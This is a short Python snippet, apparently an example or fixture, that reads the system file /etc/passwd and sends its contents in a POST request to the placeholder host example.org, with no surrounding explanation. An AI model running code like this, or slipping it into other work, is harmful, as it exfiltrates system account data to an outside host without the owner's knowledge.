import http.client

connection = http.client.HTTPSConnection("example.org")
connection.request("POST", "/", open("/etc/passwd").read())
